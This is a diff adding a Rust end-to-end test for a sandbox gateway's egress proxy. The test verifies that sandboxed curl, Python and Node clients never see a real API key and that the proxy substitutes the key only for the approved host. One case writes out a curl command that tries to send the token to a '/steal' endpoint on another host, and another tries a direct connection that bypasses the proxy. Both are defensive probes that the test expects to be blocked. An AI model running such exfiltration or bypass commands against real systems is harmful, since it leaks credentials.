@@ -1,0 +1,658 @@
+//! Issue 4's acceptance with real parts end to end: the real helper (private bus, see
+//! `privhelper/tests/common`) builds real sandboxes, the gateway's egress proxy serves them, a
+//! fake HTTPS upstream in its own network namespace (`egress_support`) records what arrives, and
+//! real clients run inside the sandboxes: `curl` and Python's `urllib` through `HTTPS_PROXY`,
+//! Node's built-in `fetch` (which ignores proxy variables) in transparent mode.
+//!
+//! The sandbox's proxy address (N.1) is chosen by the helper, so the spec's environment says
+//! `@GIGMCP_PROXY_ADDR@` (`privhelper::api::PROXY_ADDR_TOKEN`) and the helper substitutes it.
+//! The proxy listener is bound on `host_addr:PROXY_PORT` after `CreateSandbox` returns; the
+//! clients retry or wait for a line on stdin so they never race it.
+//!
+//! Root only (namespaces, nftables, cgroups): a loud SKIP without root, a failure on CI.
+
+#[path = "../../privhelper/tests/common/mod.rs"]
+mod helper_harness;
+
+mod egress_support;
+
+use std::net::{IpAddr, Ipv4Addr, SocketAddr};
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+use std::time::Duration;
+
+use egress_support::{TOKEN_VALUE, contains, upstream};
+use gateway::audit::Auditor;
+use gateway::egress::{
+    EgressConfig, EgressProxy, EgressShared, SandboxEgress, StaticResolver, make_placeholder,
+};
+use gateway::manifest::Manifest;
+use gateway::store::{AuditEvent, SqliteStore, Store};
+use gateway::vault::{MasterKey, SecretName, SecretValue, Vault};
+use helper_harness::{Harness, PROXY_PORT, rootfs};
+use privhelper::api::{PROXY_ADDR_TOKEN, PrivHelperProxy, TransparentSockets};
+
+const NOT_EXPANDED: &str = "$HOME ${PATH} @GIGMCP_PROXY_ADDR @HOME@ @gigmcp_proxy_addr@";
+
+/// Name of the gateway CA inside the helper's `ca_dir` (what `SandboxSpec::ca_bundle` names).
+const CA_NAME: &str = "gateway-ca.pem";
+const CA_IN_SANDBOX: &str = "/run/gigmcp/ca.pem";
+
+/// The upstream's namespace and link. Names and addresses of its own (not `egress_support::Net`'s
+/// `gmeg-*`/`ge*`/10.240.*, whose sweep would remove another checkout's egress tests running at
+/// the same time, or be removed by theirs).
+const UPSTREAM_NS: &str = "gmsbx-up";
+const UPSTREAM_LINK: &str = "gsbxu";
+const UPSTREAM_NET: &str = "10.239.77.0/30";
+const UPSTREAM_HOST_SIDE: Ipv4Addr = Ipv4Addr::new(10, 239, 77, 1);
+const UPSTREAM_IP: Ipv4Addr = Ipv4Addr::new(10, 239, 77, 2);
+
+struct UpNet;
+
+impl UpNet {
+    fn new() -> Self {
+        Self::remove();
+        let ip = |args: &[&str]| {
+            let out = std::process::Command::new("ip")
+                .args(args)
+                .output()
+                .unwrap();
+            assert!(
+                out.status.success(),
+                "ip {args:?}: {}",
+                String::from_utf8_lossy(&out.stderr)
+            );
+        };
+        ip(&["netns", "add", UPSTREAM_NS]);
+        ip(&[
+            "link",
+            "add",
+            UPSTREAM_LINK,
+            "type",
+            "veth",
+            "peer",
+            "name",
+            "eth0",
+            "netns",
+            UPSTREAM_NS,
+        ]);
+        ip(&[
+            "addr",
+            "add",
+            &format!("{UPSTREAM_HOST_SIDE}/30"),
+            "dev",
+            UPSTREAM_LINK,
+        ]);
+        ip(&["link", "set", UPSTREAM_LINK, "up"]);
+        ip(&[
+            "-n",
+            UPSTREAM_NS,
+            "addr",
+            "add",
+            &format!("{UPSTREAM_IP}/30"),
+            "dev",
+            "eth0",
+        ]);
+        ip(&["-n", UPSTREAM_NS, "link", "set", "eth0", "up"]);
+        ip(&["-n", UPSTREAM_NS, "link", "set", "lo", "up"]);
+        Self
+    }
+
+    fn upstream_ip(&self) -> Ipv4Addr {
+        UPSTREAM_IP
+    }
+
+    fn remove() {
+        for args in [
+            &["netns", "del", UPSTREAM_NS][..],
+            &["link", "del", UPSTREAM_LINK][..],
+        ] {
+            let _ = std::process::Command::new("ip").args(args).output();
+        }
+    }
+}
+
+impl Drop for UpNet {
+    fn drop(&mut self) {
+        Self::remove();
+    }
+}
+
+/// The gateway side: store, vault, CA, shared egress state, and the upstream it reaches.
+struct Gateway {
+    _dir: tempfile::TempDir,
+    net: UpNet,
+    store: Arc<dyn Store>,
+    shared: Arc<EgressShared>,
+    upstream: upstream::Upstream,
+    ph: String,
+}
+
+impl Gateway {
+    async fn start(h: &Harness) -> Self {
+        let net = UpNet::new();
+        let dir = tempfile::tempdir().unwrap();
+        let store: Arc<dyn Store> =
+            Arc::new(SqliteStore::open_in(&dir.path().join("state")).unwrap());
+        let vault = Arc::new(Vault::open(store.clone(), MasterKey::generate().unwrap()).unwrap());
+        vault
+            .set(
+                &SecretName::parse("API_TOKEN").unwrap(),
+                &SecretValue::from(TOKEN_VALUE.as_bytes()),
+            )
+            .unwrap();
+        let test_ca = upstream::TestCa::new(&["api.test.example", "other.test.example"]);
+        let test_ca_pem = dir.path().join("upstream-ca.pem");
+        std::fs::write(&test_ca_pem, &test_ca.ca_pem).unwrap();
+        let up = IpAddr::V4(net.upstream_ip());
+        let upstream =
+            upstream::Upstream::start(UPSTREAM_NS, SocketAddr::new(up, 443), &test_ca).await;
+        let mut resolver = StaticResolver::new();
+        resolver
+            .insert("api.test.example", vec![up])
+            .insert("other.test.example", vec![up]);
+        let ca_pem = dir.path().join("gateway-ca.pem");
+        let mut config = EgressConfig::new(ca_pem.clone());
+        config.extra_upstream_ca = Some(test_ca_pem);
+        config.resolver = Arc::new(resolver);
+        let shared =
+            EgressShared::new(vault, Auditor::new(store.clone(), "gigmcpd"), config).unwrap();
+        // The CA the sandboxes trust, where the helper takes it from: a fresh (single-link)
+        // regular file owned by the caller (root here), readable by all.
+        let dest = h.ca_dir.join(CA_NAME);
+        std::fs::copy(&ca_pem, &dest).unwrap();
+        {
+            use std::os::unix::fs::PermissionsExt;
+            std::fs::set_permissions(&dest, std::fs::Permissions::from_mode(0o644)).unwrap();
+        }
+        Self {
+            _dir: dir,
+            net,
+            store,
+            shared,
+            upstream,
+            ph: make_placeholder().unwrap(),
+        }
+    }
+
+    async fn audit(&self) -> Vec<AuditEvent> {
+        self.shared.flush_audit().await;
+        let mut all = self.store.audit_recent(100_000).unwrap();
+        all.reverse();
+        all
+    }
+}
+
+/// The Python client: waits for the proxy (a line on stdin), prints its environment, then
+/// fetches through `HTTPS_PROXY` with the placeholder from the environment.
+const PY_CLIENT: &str = r#"import os, sys, urllib.request
+sys.stdin.readline()
+print('ENV', sorted(os.environ.items()))
+req = urllib.request.Request('https://api.test.example/echo?c=python',
+    headers={'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']})
+with urllib.request.urlopen(req, timeout=30) as r:
+    print('STATUS', r.status)
+    print(r.headers)
+    print(r.read().decode('utf-8', 'replace'))
+"#;
+
+/// Two allowlisted hosts; the one credential is bound to the first, presented as a bearer token.
+fn manifest() -> Manifest {
+    Manifest::from_json(
+        r#"{"name":"sandbox-egress-test","version":"1","command":["/bin/server"],
+        "egress":[{"host":"api.test.example"},{"host":"other.test.example"}],
+        "credentials":[
+          {"name":"API_TOKEN","hosts":["api.test.example"],
+           "inject":{"type":"header","name":"Authorization","format":"Bearer {}"}}
+        ]}"#,
+    )
+    .expect("test manifest")
+}
+
+/// What a sandboxed client did.
+struct Run {
+    host_addr: Ipv4Addr,
+    stdout: Vec<u8>,
+    stderr: Vec<u8>,
+}
+
+impl Run {
+    fn out(&self) -> String {
+        String::from_utf8_lossy(&self.stdout).into_owned()
+    }
+    fn err(&self) -> String {
+        String::from_utf8_lossy(&self.stderr).into_owned()
+    }
+    /// Everything the sandbox printed: it must hold the placeholder at most, never the key.
+    fn assert_never_saw_key(&self, what: &str) {
+        assert!(
+            !contains(&self.stdout, TOKEN_VALUE.as_bytes())
+                && !contains(&self.stderr, TOKEN_VALUE.as_bytes()),
+            "{what}: the real key reached the sandbox:\n{}\n{}",
+            self.out(),
+            self.err()
+        );
+    }
+}
+
+/// The environment every sandbox gets: proxy variables (N.1 substituted by the helper), the CA
+/// variables, and the credential's placeholder.
+fn sandbox_env(ph: &str) -> Vec<(String, String)> {
+    let proxy = format!("http://{PROXY_ADDR_TOKEN}:{PROXY_PORT}");
+    let mut env: Vec<(String, String)> = vec![
+        ("PATH".into(), "/bin:/usr/bin".into()),
+        ("HOME".into(), "/tmp".into()),
+        ("GITHUB_TOKEN".into(), ph.into()),
+        // libuv's io_uring is killed by the seccomp policy; Node falls back without it.
+        ("UV_USE_IO_URING".into(), "0".into()),
+        // Only the exact token is substituted: these reach the sandbox verbatim.
+        ("NOT_EXPANDED".into(), NOT_EXPANDED.into()),
+    ];
+    for k in ["HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy"] {
+        env.push((k.into(), proxy.clone()));
+    }
+    for k in [
+        "SSL_CERT_FILE",
+        "CURL_CA_BUNDLE",
+        "REQUESTS_CA_BUNDLE",
+        "NODE_EXTRA_CA_CERTS",
+        "GIT_SSL_CAINFO",
+    ] {
+        env.push((k.into(), CA_IN_SANDBOX.into()));
+    }
+    env
+}
+
+/// Creates a sandbox running `argv` in `rootfs`, starts its egress proxy (and, in transparent
+/// mode, adopts the helper's sockets), sends one line on stdin (the Python client waits for it),
+/// and collects everything the sandbox printed until it exits.
+async fn run_in_sandbox(
+    h: &Harness,
+    client: &PrivHelperProxy<'static>,
+    gw: &Gateway,
+    rootfs: &str,
+    argv: &[&str],
+    transparent: bool,
+) -> Run {
+    let mut spec = h.spec(rootfs, argv);
+    spec.env = sandbox_env(&gw.ph);
+    spec.ca_bundle = CA_NAME.into();
+    spec.transparent = transparent;
+    spec.limits.memory_max_bytes = 512 << 20;
+    spec.limits.pids_max = 128;
+    let (info, stdin, stdout, stderr, _pidfd, fds) = client
+        .create_sandbox(&spec)
+        .await
+        .unwrap_or_else(|e| panic!("create {rootfs}: {e}"));
+    let host_addr: Ipv4Addr = info.host_addr.parse().unwrap();
+    let sb = SandboxEgress {
+        sandbox_id: info.id.clone(),
+        listen: SocketAddr::new(IpAddr::V4(host_addr), PROXY_PORT),
+        expected_peer: info.sandbox_addr.parse().unwrap(),
+        manifest: Arc::new(manifest()),
+        placeholders: [("API_TOKEN".to_string(), gw.ph.clone())]
+            .into_iter()
+            .collect(),
+        approved_ranges: vec![UPSTREAM_NET.parse().unwrap()],
+    };
+    let proxy = EgressProxy::spawn(sb, gw.shared.clone()).await.unwrap();
+    match TransparentSockets::from_reply(fds).unwrap() {
+        Some(t) => {
+            assert!(transparent);
+            proxy
+                .adopt_transparent_listener(std::net::TcpListener::from(t.tls))
+                .unwrap();
+            proxy
+                .adopt_dns(
+                    Some(std::net::UdpSocket::from(t.dns_udp)),
+                    Some(std::net::TcpListener::from(t.dns_tcp)),
+                    host_addr,
+                )
+                .unwrap();
+        }
+        None => assert!(!transparent),
+    }
+    let stdin: std::os::fd::OwnedFd = stdin.into();
+    let mut stdin = std::fs::File::from(stdin);
+    {
+        use std::io::Write;
+        let _ = stdin.write_all(b"go\n");
+    }
+    let timeout = Duration::from_secs(90);
+    let (stdout, stderr) = tokio::task::spawn_blocking(move || {
+        let err = std::thread::spawn(move || helper_harness::read_all(stderr, timeout));
+        let out = helper_harness::read_all(stdout, timeout);
+        (out, err.join().unwrap())
+    })
+    .await
+    .unwrap();
+    // Closing stdin tears the sandbox down (if it has not gone already).
+    drop(stdin);
+    drop(proxy);
+    let run = Run {
+        host_addr,
+        stdout,
+        stderr,
+    };
+    eprintln!(
+        "--- {rootfs} {argv:?}\n[stdout]\n{}\n[stderr]\n{}",
+        run.out(),
+        run.err()
+    );
+    run
+}
+
+/// Copies a directory tree, leaving out the named entries (test suites, caches, GUI toolkits).
+fn copy_tree(src: &Path, dest: &Path, skip: &[&str]) {
+    std::fs::create_dir_all(dest).unwrap();
+    for e in std::fs::read_dir(src).unwrap().flatten() {
+        let name = e.file_name();
+        if skip.iter().any(|s| name == *s) {
+            continue;
+        }
+        let ty = e.file_type().unwrap();
+        let to = dest.join(&name);
+        if ty.is_dir() {
+            copy_tree(&e.path(), &to, skip);
+        } else if ty.is_symlink() {
+            let target = std::fs::read_link(e.path()).unwrap();
+            std::os::unix::fs::symlink(target, &to).unwrap();
+        } else if ty.is_file() {
+            std::fs::copy(e.path(), &to).unwrap();
+        }
+    }
+}
+
+/// `curl` and `sh` (for `$GITHUB_TOKEN` in a header), Python with its standard library
+/// (without tests and caches; lib-dynload's libraries too), and Node.
+fn build_rootfs(h: &Harness) -> String {
+    let name = "clients";
+    let root = h.images.join(name);
+    let node = which("node");
+    // The distribution's interpreter (not a pyenv shim) and its standard library.
+    let python = std::fs::canonicalize("/usr/bin/python3").expect("/usr/bin/python3 missing");
+    let stdlib = Path::new("/usr/lib").join(python.file_name().unwrap());
+    assert!(
+        stdlib.join("os.py").exists(),
+        "{} missing",
+        stdlib.display()
+    );
+    let stdlib_in_image = stdlib.to_string_lossy().trim_start_matches('/').to_owned();
+    let mut bins: Vec<(PathBuf, &str)> = vec![
+        (which("curl"), "bin/curl"),
+        (which("dash"), "bin/sh"),
+        (python.clone(), "usr/bin/python3"),
+        (node, "bin/node"),
+    ];
+    let dynload: Vec<PathBuf> = std::fs::read_dir(stdlib.join("lib-dynload"))
+        .unwrap()
+        .flatten()
+        .map(|e| e.path())
+        .filter(|p| p.extension().is_some_and(|x| x == "so"))
+        .collect();
+    let dests: Vec<String> = dynload
+        .iter()
+        .map(|p| p.to_string_lossy().trim_start_matches('/').to_owned())
+        .collect();
+    for (p, d) in dynload.iter().zip(&dests) {
+        bins.push((p.clone(), d.as_str()));
+    }
+    rootfs::build(&root, &bins);
+    copy_tree(
+        &stdlib,
+        &root.join(&stdlib_in_image),
+        &[
+            "test",
+            "__pycache__",
+            "site-packages",
+            "dist-packages",
+            "idlelib",
+            "tkinter",
+            "lib2to3",
+            "ensurepip",
+            "lib-dynload",
+        ],
+    );
+    // Readable by every sandbox uid (rootfs::build set modes before the copy).
+    let status = std::process::Command::new("chmod")
+        .args(["-R", "a+rX"])
+        .arg(&root)
+        .status()
+        .unwrap();
+    assert!(status.success());
+    name.into()
+}
+
+fn which(bin: &str) -> PathBuf {
+    let out = std::process::Command::new("sh")
+        .args(["-c", &format!("command -v {bin}")])
+        .output()
+        .unwrap();
+    let p = String::from_utf8_lossy(&out.stdout).trim().to_owned();
+    assert!(!p.is_empty(), "{bin} missing on the host");
+    std::fs::canonicalize(p).unwrap()
+}
+
+/// Every file under `dir` (the images: the sandbox's whole filesystem besides tmpfs) without the
+/// key.
+fn assert_no_file_holds_key(dir: &Path) {
+    for e in std::fs::read_dir(dir).unwrap().flatten() {
+        let ty = e.file_type().unwrap();
+        if ty.is_dir() {
+            assert_no_file_holds_key(&e.path());
+        } else if ty.is_file() {
+            let data = std::fs::read(e.path()).unwrap();
+            assert!(
+                !contains(&data, TOKEN_VALUE.as_bytes()),
+                "{} holds the key",
+                e.path().display()
+            );
+        }
+    }
+}
+
+fn authorization_seen(gw: &Gateway, path: &str) -> Option<Vec<u8>> {
+    gw.upstream
+        .seen()
+        .iter()
+        .find(|s| s.path_and_query.starts_with(path))
+        .map(|s| s.header("authorization").unwrap_or_default().to_vec())
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn real_clients_in_real_sandboxes_get_the_key_swapped_in_and_never_see_it() {
+    if !helper_harness::require_root(
+        "real_clients_in_real_sandboxes_get_the_key_swapped_in_and_never_see_it",
+    ) || !egress_support::require_root("sandbox_egress")
+    {
+        return;
+    }
+    let _serial = helper_harness::SERIAL.lock().await;
+    let h = Harness::start(0).await;
+    let client = h.client().await;
+    let gw = Gateway::start(&h).await;
+    let t0 = std::time::Instant::now();
+    let image = build_rootfs(&h);
+    eprintln!("client rootfs built in {:?}", t0.elapsed());
+    let bearer_key = format!("Bearer {TOKEN_VALUE}").into_bytes();
+
+    // 1. curl through HTTPS_PROXY; the header comes from the environment (via sh).
+    let curl = run_in_sandbox(
+        &h,
+        &client,
+        &gw,
+        &image,
+        &[
+            "/bin/sh",
+            "-c",
+            "exec curl -sS -v --retry 10 --retry-connrefused --retry-delay 1 --max-time 30 \
+             -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.test.example/echo?c=curl",
+        ],
+        false,
+    )
+    .await;
+    curl.assert_never_saw_key("curl");
+    assert_eq!(
+        authorization_seen(&gw, "/echo?c=curl").expect("curl's request reached the upstream"),
+        bearer_key
+    );
+    // The upstream echoed the header back: the sandbox got the placeholder instead.
+    assert!(
+        curl.out()
+            .contains(&format!("x-echo-authorization: Bearer {}", gw.ph))
+            || curl
+                .err()
+                .contains(&format!("x-echo-authorization: Bearer {}", gw.ph)),
+        "echo not scrubbed back to the placeholder"
+    );
+    assert!(
+        curl.err().contains("CONNECT api.test.example:443"),
+        "curl did not use the proxy"
+    );
+
+    // 2. Python's urllib through HTTPS_PROXY; it also prints its environment.
+    let py = run_in_sandbox(
+        &h,
+        &client,
+        &gw,
+        &image,
+        &["/usr/bin/python3", "-I", "-S", "-c", PY_CLIENT],
+        false,
+    )
+    .await;
+    py.assert_never_saw_key("python");
+    assert!(py.out().contains("STATUS 200"), "python failed");
+    assert_eq!(
+        authorization_seen(&gw, "/echo?c=python").expect("python's request reached the upstream"),
+        bearer_key
+    );
+    // The helper substituted N.1, and only there.
+    let proxy_url = format!("http://{}:{PROXY_PORT}", py.host_addr);
+    assert!(
+        py.out()
+            .contains(&format!("('HTTPS_PROXY', '{proxy_url}')")),
+        "HTTPS_PROXY not substituted"
+    );
+    assert!(py.out().contains(&format!("('GITHUB_TOKEN', '{}')", gw.ph)));
+    assert!(!py.out().contains(PROXY_ADDR_TOKEN));
+    assert!(
+        py.out()
+            .contains(&format!("('NOT_EXPANDED', '{NOT_EXPANDED}')")),
+        "a value without the exact token was changed"
+    );
+
+    // 3. Node's built-in fetch ignores HTTPS_PROXY: transparent mode serves it.
+    let node = run_in_sandbox(
+        &h,
+        &client,
+        &gw,
+        &image,
+        &[
+            "/bin/node",
+            "-e",
+            "fetch('https://api.test.example/echo?c=node', \
+               {headers: {authorization: 'Bearer ' + process.env.GITHUB_TOKEN}})\
+             .then(async r => { console.log('STATUS', r.status); \
+               for (const [k, v] of r.headers) console.log(k + ': ' + v); \
+               console.log(await r.text()); })\
+             .catch(e => { console.error('FETCH ERROR', e, e.cause); process.exitCode = 1; });",
+        ],
+        true,
+    )
+    .await;
+    node.assert_never_saw_key("node");
+    assert!(node.out().contains("STATUS 200"), "node fetch failed");
+    assert_eq!(
+        authorization_seen(&gw, "/echo?c=node").expect("node's request reached the upstream"),
+        bearer_key
+    );
+    assert!(
+        node.out()
+            .contains(&format!("x-echo-authorization: Bearer {}", gw.ph))
+    );
+
+    // Node came in through the transparent listener (host from SNI), not the proxy port.
+    let events = gw.audit().await;
+    assert!(
+        events.iter().any(|e| e.action == "egress.connect"
+            && e.target == "api.test.example:443"
+            && e.detail.contains("kind=transparent")),
+        "no transparent-mode connection audited: {events:#?}"
+    );
+
+    // 4. The placeholder sent to an allowlisted host it is not bound to: refused, audited,
+    //    nothing reaches the upstream.
+    let before = gw.upstream.seen().len();
+    let exfil = run_in_sandbox(
+        &h,
+        &client,
+        &gw,
+        &image,
+        &[
+            "/bin/sh",
+            "-c",
+            "exec curl -sS --retry 10 --retry-connrefused --retry-delay 1 --max-time 30 \
+             -o /dev/null -w '%{http_code}' \
+             -H \"Authorization: Bearer $GITHUB_TOKEN\" https://other.test.example/steal",
+        ],
+        false,
+    )
+    .await;
+    exfil.assert_never_saw_key("exfiltration attempt");
+    assert_eq!(exfil.out(), "403");
+    assert_eq!(
+        gw.upstream.seen().len(),
+        before,
+        "the request reached the upstream"
+    );
+    assert!(!gw.upstream.ever_saw(gw.ph.as_bytes()));
+    let events = gw.audit().await;
+    assert!(
+        events.iter().any(|e| e.action == "egress.denied"
+            && e.target.contains("other.test.example")
+            && e.detail.contains("API_TOKEN")),
+        "exfiltration not audited: {events:#?}"
+    );
+
+    // 5. A direct connection to the upstream, bypassing the proxy: no route.
+    let upstream_addr = gw.net.upstream_ip();
+    let direct = run_in_sandbox(
+        &h,
+        &client,
+        &gw,
+        &image,
+        &[
+            "/bin/curl",
+            "-sS",
+            "--noproxy",
+            "*",
+            "--connect-timeout",
+            "5",
+            "-k",
+            &format!("https://{upstream_addr}/direct"),
+        ],
+        false,
+    )
+    .await;
+    assert!(
+        direct.err().contains("Couldn't connect") || direct.err().contains("nreachable"),
+        "direct connection did not fail to connect: {}",
+        direct.err()
+    );
+    assert_eq!(
+        gw.upstream.seen().len(),
+        before,
+        "the direct request arrived"
+    );
+
+    // Nowhere in the sandbox's filesystem.
+    assert_no_file_holds_key(&h.images);
+    // And the upstream saw the key exactly where declared: three requests, each in the header.
+    let with_key = gw
+        .upstream
+        .seen()
+        .iter()
+        .filter(|s| contains(&s.all_bytes(), TOKEN_VALUE.as_bytes()))
+        .count();
+    assert_eq!(with_key, 3);
+}
